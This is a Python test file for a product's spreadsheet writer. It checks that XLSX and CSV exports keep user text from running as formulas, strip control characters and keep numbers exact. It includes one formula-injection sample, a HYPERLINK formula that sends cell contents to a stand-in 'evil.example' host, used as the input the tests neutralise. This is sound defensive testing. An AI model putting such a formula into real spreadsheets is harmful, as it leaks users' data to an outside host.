"""Every XLSX and CSV the product writes goes through one writer: typed text never runs as a formula,
control characters cannot break a file, numbers stay exact numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from koperasi.core.spreadsheets import Sheet, csv_text, safe_text

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_is_kept_as_text(start):
    assert safe_text(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_text_is_left_alone_and_control_characters_are_stripped():
    assert safe_text("Slamet Riyadi") == "Slamet Riyadi"
    assert safe_text("memo\u0003 with\x00 controls\nand a new line") == "memo with controls\nand a new line"
    assert safe_text("\u0003=1+1") == "'=1+1"  # stripping cannot uncover a formula


def test_an_xlsx_cell_is_text_not_a_formula_and_numbers_stay_numbers():
    sheet = Sheet("Tunggakan [Des]")
    sheet.append([EVIL, Decimal("1500000.50"), datetime.date(2026, 12, 4), "memo\u0003"], formats=[None, "#,##0.00"])
    book = load_workbook(io.BytesIO(sheet.to_bytes()))
    name, amount, day, memo = next(book.active.iter_rows(values_only=True))
    row = next(book.active.iter_rows())
    assert (name, row[0].data_type) == ("'" + EVIL, "s")
    assert amount == pytest.approx(1500000.50) and row[1].number_format == "#,##0.00"
    assert day == datetime.datetime(2026, 12, 4) and memo == "memo"
    assert book.active.title == "Tunggakan  Des "


def test_csv_cells_are_neutralised_the_same_way():
    text = csv_text([["nama", "jumlah"], [EVIL, Decimal("10.00")]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["nama", "jumlah"], ["'" + EVIL, "10.00"]]
